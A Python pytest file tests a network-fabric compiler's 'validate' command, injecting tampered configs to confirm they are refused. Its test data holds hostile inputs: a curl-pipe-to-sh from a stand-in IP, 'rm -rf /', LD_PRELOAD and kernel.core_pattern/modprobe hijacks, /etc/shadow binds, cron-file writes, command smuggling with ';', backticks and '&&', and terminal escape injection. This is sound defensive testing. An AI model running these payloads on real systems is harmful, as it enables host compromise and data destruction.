"""`railonly validate` treats OUTDIR as untrusted: links are refused and never
followed, malformed files are exit 2 naming the file, and what the compiler
never emits (clab exec forms, FRR `log file`, EOS `bash` ...) fails naming
file and line. The same checks (fabric/outdir/reader.py) gate deploy and push."""

from __future__ import annotations

import os
import shutil
from pathlib import Path

import pytest

from railonly.cli import main
from railonly.fabric.outdir import reader as outdir_reader

REPO = Path(__file__).resolve().parents[2]
LABS = REPO / "labs"
SECRET = "s3cr3t-root-only-content"


@pytest.fixture(scope="module")
def good(tmp_path_factory):
    base = tmp_path_factory.mktemp("good")
    out = {}
    for lab in ("mini-routed", "mini-l2", "mini-baseline"):
        assert main(["compile", str(LABS / f"{lab}.yml"), "-o", str(base / lab), "-q"]) == 0
        out[lab] = base / lab
    text = (LABS / "mini-routed.yml").read_text().replace("platform: sonic", "platform: eos")
    (base / "eos.yml").write_text(text)
    assert main(["compile", str(base / "eos.yml"), "-o", str(base / "eos"), "-q"]) == 0
    out["eos"] = base / "eos"
    # a lab slice: lab/ holds the lab's own fabric.json and configs
    sliced = "name: slice\nhb_domain: {size: 2, count: 40}\nlab: {domains: 2}\n"
    (base / "slice.yml").write_text(sliced)
    assert main(["compile", str(base / "slice.yml"), "-o", str(base / "slice"), "-q"]) == 0
    out["slice"] = base / "slice"
    return out


@pytest.fixture
def routed(good, tmp_path) -> Path:
    dst = tmp_path / "out"
    shutil.copytree(good["mini-routed"], dst)
    return dst


@pytest.fixture
def eos(good, tmp_path) -> Path:
    dst = tmp_path / "out"
    shutil.copytree(good["eos"], dst)
    return dst


def _run(outdir: Path, capsys) -> tuple[int, str]:
    rc = main(["validate", str(outdir)])
    cap = capsys.readouterr()
    assert "Traceback" not in cap.err + cap.out
    return rc, cap.out + cap.err


def _clab(outdir: Path) -> Path:
    return next(outdir.glob("*.clab.yml"))


def _line_of(path: Path, needle: str) -> int:
    return next(i for i, line in enumerate(path.read_text().splitlines(), 1) if needle in line)


@pytest.mark.parametrize("lab", ["mini-routed", "mini-l2", "mini-baseline", "eos", "slice"])
def test_compiled_outdirs_pass_the_untrusted_checks(good, lab):
    """The allow-lists accept everything the compiler emits (else they are wrong, not strict)."""
    assert outdir_reader.check_outdir(str(good[lab])) == []


# --- links and special files ---------------------------------------------------------


def test_symlinked_config_is_refused_and_never_read(routed, tmp_path, capsys):
    secret = tmp_path / "shadow"
    secret.write_text(SECRET + "\n")
    frr = routed / "configs" / "minir-rail0-leaf0" / "frr.conf"
    frr.unlink()
    os.symlink(secret, frr)
    rc, out = _run(routed, capsys)
    assert rc == 2
    assert "configs/minir-rail0-leaf0/frr.conf" in out and "symbolic link" in out
    assert SECRET not in out


def test_symlinked_directory_is_refused(routed, tmp_path, capsys):
    elsewhere = tmp_path / "elsewhere"
    shutil.move(routed / "configs" / "minir-rail0-leaf1", elsewhere)
    os.symlink(elsewhere, routed / "configs" / "minir-rail0-leaf1")
    rc, out = _run(routed, capsys)
    assert rc == 2 and "configs/minir-rail0-leaf1" in out and "symbolic link" in out


def test_symlink_in_lab_state_is_named(routed, tmp_path, capsys):
    (routed / ".lab" / "ssh").mkdir(parents=True)
    os.symlink(tmp_path / "anything", routed / ".lab" / "ssh" / "authorized_keys")
    rc, out = _run(routed, capsys)
    assert rc == 2 and ".lab/ssh/authorized_keys" in out


def test_fifo_in_outdir_is_refused_without_blocking(routed, capsys):
    db = routed / "configs" / "minir-rail0-leaf0" / "config_db.json"
    db.unlink()
    os.mkfifo(db)
    rc, out = _run(routed, capsys)
    assert rc == 2 and "config_db.json" in out and "FIFO" in out


def test_reader_refuses_links_on_the_way(routed, tmp_path):
    os.symlink(routed / "configs", routed / "cfg")
    reader = outdir_reader.OutdirReader(str(routed))
    with pytest.raises(outdir_reader.UntrustedFile) as exc:
        reader.read_text("cfg/minir-rail0-leaf0/frr.conf")
    assert "symbolic link" in exc.value.problems[0].message
    assert reader.read_text("configs/minir-rail0-leaf0/nope") is None
    with pytest.raises(outdir_reader.UntrustedFile):
        reader.read_text("../etc/passwd")


# --- malformed files ---------------------------------------------------------------


@pytest.mark.parametrize("rel,text,msg", [
    ("configs/minir-rail0-leaf0/config_db.json", '{"PORT": ', "is not valid JSON"),
    ("configs/minir-rail0-leaf0/config_db.json", '{"x": NaN}', "NaN is not allowed"),
    ("configs/minir-rail0-leaf0/config_db.json", '{"PORT": {},\n "PORT": {}}', "'PORT' is given twice in one object"),
    ("fabric.json", '{"name": "minir",\n "name": "other"}', "'name' is given twice in one object"),
    ("fabric.json", "[" * 100_000, "is not valid JSON"),
    ("fabric.json", b"\xff\xfe", "is not UTF-8"),
    ("CLAB", "name: [unclosed\n", "is not acceptable YAML"),
    ("CLAB", "a: &x [1]\nb: *x\n", "alias"),
])
def test_malformed_files_are_exit_2_naming_the_file(routed, capsys, rel, text, msg):
    path = _clab(routed) if rel == "CLAB" else routed / rel
    path.write_bytes(text if isinstance(text, bytes) else text.encode())
    rc, out = _run(routed, capsys)
    assert rc == 2 and path.name in out and msg in out


# --- clab exec and node keys ---------------------------------------------------------


@pytest.mark.parametrize("line", [
    "sysctl -w kernel.modprobe=/tmp/x",  # host-global
    "sysctl -w kernel.core_pattern=|/tmp/x",
    "sysctl -w net.core.rmem_max=1",  # net.* but not per-namespace-safe / not emitted
    "sysctl -w net.ipv4.ip_forward=1 ; reboot",
    "sh -c 'touch /tmp/pwned'",
    "ip netns exec x touch /y",
    "ip route add 10.0.0.0/10 via 10.0.0.1 dev eth1 table 5",
    "ip addr add 10.0.0.300/29 dev eth1",
    "ip link set dev eth1 mtu 9000 `id`",
])
def test_clab_exec_outside_the_emitted_forms_fails_naming_file_and_line(routed, capsys, line):
    clab = _clab(routed)
    text = clab.read_text().replace("- sysctl -w net.ipv4.ip_forward=1", f"- {line!r}", 1)
    clab.write_text(text)
    rc, out = _run(routed, capsys)
    n = _line_of(clab, f"- {line!r}")
    assert rc == 1
    assert f"{clab.name}: line {n}:" in out and "exec[3]" in out


@pytest.mark.parametrize("key,value", [
    ("cmd", "bash -c id"),
    ("entrypoint", "/bin/sh"),
    ("env", "{X: 1}"),
    ("binds", "[/etc:/host-etc]"),
    ("startup-config", "/etc/shadow"),
])
def test_clab_node_keys_the_compiler_never_emits_fail(routed, capsys, key, value):
    clab = _clab(routed)
    text = clab.read_text().replace("    hb0-gpu0:\n      kind: linux\n",
                                    f"    hb0-gpu0:\n      kind: linux\n      {key}: {value}\n", 1)
    clab.write_text(text)
    rc, out = _run(routed, capsys)
    assert rc == 1 and f"topology.nodes.hb0-gpu0.{key}" in out


def test_clab_bind_to_another_path_fails(routed, capsys):
    clab = _clab(routed)
    text = clab.read_text().replace("configs/minir-rail0-leaf0/config_db.json:/var/sonic/config_db.json",
                                    "/etc/shadow:/var/sonic/config_db.json", 1)
    clab.write_text(text)
    rc, out = _run(routed, capsys)
    assert rc == 1 and "binds[0]" in out and "/etc/shadow" in out


@pytest.mark.parametrize("bind", ["", "{a: 1}", "[1, 2]", "7"])
def test_a_topology_of_odd_shapes_fails_its_checks_not_validate(routed, capsys, bind):
    """A bind that is not text (a truncated file leaves `- ` with nothing after it) reached the
    clabernetes renderer, which trusts the compiler's shapes: an AttributeError."""
    clab = _clab(routed)
    text = clab.read_text().replace("- configs/minir-rail0-leaf0/config_db.json:/var/sonic/config_db.json",
                                    f"- {bind}", 1)
    clab.write_text(text)
    rc, out = _run(routed, capsys)
    assert rc == 1 and "minir.clabernetes.yaml: cannot be rendered" in out


def test_check_exec_line_accepts_every_emitted_form(good):
    import yaml

    for lab in ("mini-routed", "mini-l2", "mini-baseline"):
        doc = yaml.safe_load(_clab(good[lab]).read_text())
        lines = [c for n in doc["topology"]["nodes"].values() for c in n.get("exec", [])]
        assert lines and [c for c in lines if outdir_reader.check_exec_line(c)] == []


# --- FRR and EOS ---------------------------------------------------------------------


@pytest.mark.parametrize("line,msg", [
    ("log file /etc/cron.d/evil", "FRR would write a file"),
    ("log file /run/railonly/x/../../../etc/x", "FRR would write a file"),
    ("dump bgp all /tmp/bgp.dump", "never emitted"),
    ("agentx", "never emitted"),
    ("line vty", "never emitted"),
    ("service password-encryption", "never emitted"),
    ("hostname evil;id", "is not a plain name"),
    ("frr version 8.4 && id", "never emitted"),
])
def test_frr_lines_the_compiler_never_emits_fail(routed, capsys, line, msg):
    frr = routed / "configs" / "minir-rail0-leaf0" / "frr.conf"
    frr.write_text(frr.read_text() + line + "\n")
    n = len(frr.read_text().splitlines())
    rc, out = _run(routed, capsys)
    assert rc == 1 and f"configs/minir-rail0-leaf0/frr.conf: line {n}:" in out and msg in out


def test_frr_match_script_fails(routed, capsys):
    frr = routed / "configs" / "minir-rail0-leaf0" / "frr.conf"
    frr.write_text(frr.read_text().replace(" match ip address prefix-list RAIL_ROUTES", " match script evil", 1))
    rc, out = _run(routed, capsys)
    assert rc == 1 and "match script" in out


def test_frr_log_file_below_the_run_dir_is_tolerated_only_when_asked(routed):
    text = "hostname a\nlog file /run/railonly/lab/frr/a/frr.log\n"
    assert outdir_reader.check_frr(text, "f", run_dir="/run/railonly/lab") == []
    assert outdir_reader.check_frr(text, "f") != []
    assert outdir_reader.check_frr("log file /run/railonly/lab/../../etc/x\n", "f", run_dir="/run/railonly/lab") != []


def test_the_reader_s_forms_take_ascii_digits_only():
    """Python's \\d and \\w also take other scripts' digits and letters (Arabic-Indic 1, 3 here),
    which neither FRR nor an interface name does."""
    assert outdir_reader.PORT_NAME.fullmatch("Ethernet1/5") and not outdir_reader.PORT_NAME.fullmatch("Ethernet\u0661/5")
    assert outdir_reader.check_frr("log timestamp precision 3\nlog syslog informational\n", "f") == []
    assert outdir_reader.check_frr("log timestamp precision \u0663\n", "f") != []
    assert outdir_reader.check_frr("log syslog \u0663\n", "f") != []


@pytest.mark.parametrize("line,msg", [
    ("bash sudo touch /tmp/x", "runs programs"),
    ("event-handler evil", "runs programs"),
    ("daemon evil", "runs programs"),
    ("   action bash touch /x", "runs programs"),
    ("alias x bash id", "runs programs"),
    ("schedule x interval 1 max-log-files 1 command bash id", "runs programs"),
    ("management ssh", "not one railonly writes"),  # bare: only the block that enables SSH in a VRF is taken (docs/management.md)
    ("username admin secret x", "not one railonly writes"),  # only the SHA-512 forms of docs/management.md
    ("tap aggregation", "never emitted"),
])
def test_eos_lines_the_compiler_never_emits_fail(eos, capsys, line, msg):
    sc = eos / "configs" / "minir-rail0-leaf0" / "startup-config"
    sc.write_text(sc.read_text().replace("\nend", f"\n{line}\nend", 1))
    n = _line_of(sc, line.strip()[:15])
    rc, out = _run(eos, capsys)
    assert rc == 1 and f"configs/minir-rail0-leaf0/startup-config: line {n}:" in out and msg in out


def test_hostname_with_a_newline_fails(routed, capsys):
    import json

    db = routed / "configs" / "minir-rail0-leaf0" / "config_db.json"
    doc = json.loads(db.read_text())
    doc["DEVICE_METADATA"]["localhost"]["hostname"] = "minir-rail0-leaf0\nevil"
    db.write_text(json.dumps(doc))
    rc, out = _run(routed, capsys)
    assert rc == 1 and "DEVICE_METADATA.localhost.hostname" in out and "not a plain name" in out


def test_control_characters_in_configs_fail(routed, capsys):
    frr = routed / "configs" / "minir-rail0-leaf0" / "frr.conf"
    frr.write_text(frr.read_text().replace("hostname minir-rail0-leaf0", "hostname minir-rail0-leaf0\r"))
    rc, out = _run(routed, capsys)
    assert rc == 1 and "'\\r'" in out


def test_fabric_names_that_would_become_paths_fail(routed, capsys):
    import json

    fab = routed / "fabric.json"
    doc = json.loads(fab.read_text())
    doc["links"][0]["a"]["port"] = "../../x"
    fab.write_text(json.dumps(doc))
    rc, out = _run(routed, capsys)
    assert rc == 1 and "links[0].a.port" in out


def test_check_outdir_is_the_one_api_for_deploy_and_push(routed):
    """What the lab runtime calls before a deploy or push: findings, not exit codes."""
    clab = _clab(routed)
    clab.write_text(clab.read_text().replace("sysctl -w net.ipv4.ip_forward=1", "sysctl -w kernel.modprobe=/x", 1))
    found = outdir_reader.check_outdir(str(routed))
    assert len(found) == 1 and found[0].file.endswith(clab.name) and found[0].line
    assert "kernel.modprobe" in found[0].format()


def test_unsafe_entries_refuses_a_starting_folder_that_is_a_link(tmp_path):
    from railonly.fabric.outdir.reader import unsafe_entries

    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "elsewhere" / "secret").write_text("x")
    out = tmp_path / "out"
    out.mkdir()
    os.symlink(tmp_path / "elsewhere", out / ".lab")
    found = unsafe_entries(str(out), under=".lab")
    assert [p.file for p in found] == [str(out / ".lab")] and "symbolic link" in found[0].message


def test_validate_judges_every_file_check_outdir_judges(routed):
    """validate checks the switch files' allow-lists in its per-switch pass, from the text it
    reads once: its trust results must be exactly check_outdir's findings, file by file."""
    from railonly.fabric.validate import validator

    configs = routed / "configs"
    frr = configs / "minir-rail0-leaf0" / "frr.conf"
    frr.write_text(frr.read_text() + "agentx\n")
    db = next(configs.glob("*/config_db.json"))
    db.write_text(db.read_text().replace('"hostname": "', '"hostname": "x\\u0007', 1))
    clab = _clab(routed)
    clab.write_text(clab.read_text().replace("sysctl -w net.ipv4.ip_forward=1", "sysctl -w kernel.modprobe=/x", 1))
    want = validator.trust_results(outdir_reader.check_outdir(str(routed), require_lab=False), str(routed))
    got = [r for r in validator.validate_outdir(str(routed), manifest=False) if r.check == "trust" and not r.passed]
    assert got == want and len(want) == 3


def test_a_config_that_ends_vtysh_does_not_hide_the_next_ones(routed, capsys):
    """`exit` twice at the top ends vtysh (exit 0): the files after it in the same run were never
    read. That file fails, and a typo in every other switch's frr.conf is still found."""
    configs = routed / "configs"
    ender = configs / "minir-rail0-leaf0" / "frr.conf"
    ender.write_text(ender.read_text() + "exit\nexit\n")
    typos = {}
    for frr in sorted(configs.glob("*/frr.conf")):
        if frr != ender:
            lines = frr.read_text().splitlines()
            n = next(i for i, line in enumerate(lines) if line.strip() == "bgp log-neighbor-changes")
            lines[n] = " bgp log-neighbour-changes"
            frr.write_text("\n".join(lines) + "\n")
            typos[frr.parent.name] = n + 1
    rc, out = _run(routed, capsys)
    assert rc == 1 and len(typos) >= 9
    for name, line in typos.items():
        assert f"configs/{name}/frr.conf:{line}: % Unknown command: bgp log-neighbour-changes" in out
    assert "configs/minir-rail0-leaf0/frr.conf: vtysh stops reading this file before its end" in out


def test_what_the_outdir_says_reaches_the_terminal_and_junit_escaped(routed, tmp_path, capsys):
    """A file name and a config line holding escape sequences (a screen clear, a window
    title) and a newline that would fake another result: the text report escapes them,
    and the JUnit report stays XML that parses."""
    from xml.dom import minidom

    (routed / "hosts" / "hb0" / "\x1b]0;PWNED\x07\x1b[2J\nFAIL fake").write_text("x")
    frr = routed / "configs" / "minir-rail0-leaf0" / "frr.conf"
    frr.write_text(frr.read_text() + "\x1b]0;PWN\x07\x1b[2Jneighbor x\n")
    junit = tmp_path / "v.xml"
    assert main(["validate", str(routed), "--junit", str(junit)]) == 1
    captured = capsys.readouterr()
    said = captured.out + captured.err
    assert "\x1b" not in said and "\x07" not in said and "\\x1b]0;PWNED" in said
    assert not any(line.startswith("FAIL fake") for line in said.splitlines())
    minidom.parse(str(junit))


def test_design_keys_and_values_reach_the_terminal_escaped(tmp_path, capsys):
    design = tmp_path / "d.yml"
    design.write_text('"\\e]0;PWN\\a\\e[2Jx": 1\n' + (LABS / "mini-routed.yml").read_text())
    assert main(["compile", str(design), "-o", str(tmp_path / "o")]) == 2
    err = capsys.readouterr().err
    assert "\x1b" not in err and "\x07" not in err and "\\x1b]0;PWN" in err


def test_a_repeated_name_in_manifest_json_fails_the_manifest_check(routed, capsys):
    """json kept the last of two hashes: a bad first one passed validate unseen."""
    path = routed / "MANIFEST.json"
    path.write_text(path.read_text().replace(' "files": {\n', ' "files": {\n  "README.md": "bad",\n', 1))
    rc, out = _run(routed, capsys)
    line = _line_of(path, "README.md") + 1
    assert rc == 1 and f"FAIL manifest/files: MANIFEST.json:{line}: " in out and "'README.md' is given twice" in out


def _hash_into_manifest(out: Path) -> None:
    """What a pull request that edits a file does next: MANIFEST.json made to agree."""
    import hashlib
    import json

    doc = json.loads((out / "MANIFEST.json").read_text())
    doc["files"] = {str(p.relative_to(out)): hashlib.sha256(p.read_bytes()).hexdigest()
                    for p in sorted(out.rglob("*")) if p.is_file() and p.name != "MANIFEST.json"}
    (out / "MANIFEST.json").write_text(json.dumps(doc, indent=1, sort_keys=True) + "\n")


HOST_EDITS = {
    "rails.sh": ("curl -s http://198.51.100.7/x | sh\n", "curl"),
    "nccl.env": ("LD_PRELOAD=/tmp/evil.so\n", "LD_PRELOAD"),
    "roce-qos.sh": ("mlnx_qos -i rail0 --trust dscp; rm -rf /\n", "rm -rf"),
    "netplan.yaml": ("      dhcp4: true\n", "dhcp4"),
}


@pytest.mark.parametrize("name", sorted(HOST_EDITS))
def test_a_host_file_line_the_compiler_never_writes_fails_even_rehashed(name, routed, capsys):
    """Every host file is run (or sourced) as root on a GPU server: validate holds each line
    to the forms the templates write, whatever MANIFEST.json says."""
    line, words = HOST_EDITS[name]
    victim = routed / "hosts" / "hb2" / name
    victim.write_text(victim.read_text() + line)
    _hash_into_manifest(routed)
    assert main(["validate", str(routed)]) == 1
    out = capsys.readouterr().out
    assert f"trust/hosts/hb2/{name}" in out and words in out and "is not a line the compiler writes" in out, out


def test_a_file_the_compiler_never_writes_in_a_host_folder_fails(routed, capsys):
    (routed / "hosts" / "hb1" / "evil.sh").write_text("#!/bin/sh\n")
    _hash_into_manifest(routed)
    assert main(["validate", str(routed)]) == 1
    assert "trust/hosts/hb1/evil.sh" in capsys.readouterr().out


def test_host_file_forms_cover_every_host_file_the_compiler_writes(good):
    from railonly.fabric.devices.hosts import HOST_FILES
    from railonly.fabric.outdir import host_forms

    assert sorted(host_forms._FORMS) == HOST_FILES
    for out in good.values():
        for p in sorted(out.rglob("hosts/*/*")):
            assert host_forms.check_host_file(p.name, p.read_text(), str(p)) == []


def test_a_host_file_finding_names_its_line_or_the_missing_newline():
    from railonly.fabric.outdir import host_forms

    good = "#!/bin/sh\nset -e\n"
    assert host_forms.check_host_file("rails.sh", good, "f") == []
    [p] = host_forms.check_host_file("rails.sh", good + "set -e\nreboot\n", "f")
    assert p.line == 4 and "'reboot'" in p.message
    [p] = host_forms.check_host_file("rails.sh", good + "set -e", "f")
    assert p.line is None and "does not end with a newline" in p.message


def test_a_folder_that_holds_no_listed_file_fails_the_manifest(routed, capsys):
    """Finding: an empty configs/ghost-switch (a switch to `diff`) and hosts/hb0/sub passed."""
    (routed / "configs" / "ghost-switch").mkdir()
    (routed / "hosts" / "hb0" / "sub").mkdir()
    rc, out = _run(routed, capsys)
    assert rc == 1 and "extra: configs/ghost-switch/ (folder) holds no file of MANIFEST.json" in out, out
    assert "extra: hosts/hb0/sub/ (folder)" in out



@pytest.mark.parametrize("key, value, said", [
    ("schema_version", 2, "schema_version: 2 is not 1"), ("hb_domain_size", -3, "hb_domain_size: -3 is not from 1 to 512"),
    ("topology", "bogus", "topology: 'bogus' is not one of"), ("tiers", 99, "tiers: 99 is not from 1 to 3"),
    ("lab_nic_mbps", 1e308, "lab_nic_mbps: 1e+308 is not from 1 to 100,000"),
])
def test_a_fabric_json_value_no_design_compiles_to_is_refused_by_every_reader(routed, capsys, key, value, said):
    """Finding: only the types were checked (validate --no-manifest passed, lab status and push
    read on), and schema_version was validate's alone."""
    import json

    doc = json.loads((routed / "fabric.json").read_text())
    doc[key] = value
    (routed / "fabric.json").write_text(json.dumps(doc))
    for argv in (["validate", "--no-manifest", str(routed)], ["lab", "status", str(routed)]):
        assert main(argv) == 2
        err = capsys.readouterr().err
        assert said in err and "Traceback" not in err, err
